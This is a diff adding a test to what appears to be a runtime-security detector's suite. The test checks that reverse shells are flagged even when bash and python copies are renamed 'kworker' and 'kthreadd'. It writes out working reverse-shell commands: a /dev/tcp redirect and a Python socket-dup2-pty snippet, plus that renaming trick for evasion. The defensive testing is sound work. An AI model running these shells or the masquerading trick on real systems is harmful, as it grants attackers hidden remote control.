@@ -386,6 +386,43 @@ subprocess.call(["/bin/sh", "-i"])
         world.pod.signal(pid, signal.SIGKILL)
 
 
+def test_a_renamed_shell_or_interpreter_on_a_socket_is_a_reverse_shell(world: World, judge: Judge) -> None:
+    """Found by this red team: the shell list is by name, and every name is the workload's to choose,
+    the executable's file name too (a copy of bash called `kworker`, of python called `kthreadd` with its
+    shell on a pty, so that no process is both a known shell and on the socket). What no process can
+    hide is that its standard input and output are one network connection. The twin: a renamed binary
+    holding a connection to the same address on another descriptor."""
+    need("bash")
+    bin2 = world.work / "bin2"
+    bin2.mkdir()
+    shutil.copy("/usr/bin/bash", bin2 / "kworker")
+    shutil.copy(os.path.realpath(PY), bin2 / "kthreadd")
+    kworker = str(bin2 / "kworker")
+    world.pod.spawn(kworker, "-c", f"{kworker} -i >& /dev/tcp/{OBJECT_STORE}/443 0>&1")
+    shell = by_argv(judge, [kworker, "-i"])
+    pty = world.pod.spawn(
+        "kthreadd",
+        "-c",
+        f"""
+import os, pty, socket
+s = socket.create_connection(("{OBJECT_STORE}", 443))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn("/bin/sh")
+""",
+        executable=str(bin2 / "kthreadd"),
+    )
+    twin = world.pod.spawn(
+        kworker, "-c", f"exec 3<>/dev/tcp/{OBJECT_STORE}/443; while :; do echo x >&3; sleep 0.2; done"
+    )
+    v = judge.until("the renamed bash", lambda: raised(training(judge), "process.reverse-shell", shell))
+    assert v.evidence["remote"] == f"{OBJECT_STORE}:443" and v.evidence["exe"] == kworker
+    judge.until("the renamed python", lambda: raised(training(judge), "process.reverse-shell", pty))
+    assert_clean(judge, training(judge), twin)
+    for pid in (shell, pty, twin):
+        world.pod.signal(pid, signal.SIGKILL)
+
+
 # --- tools by their argv and executable ---------------------------------------------------------------------------
 
 SSH_OPTS = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
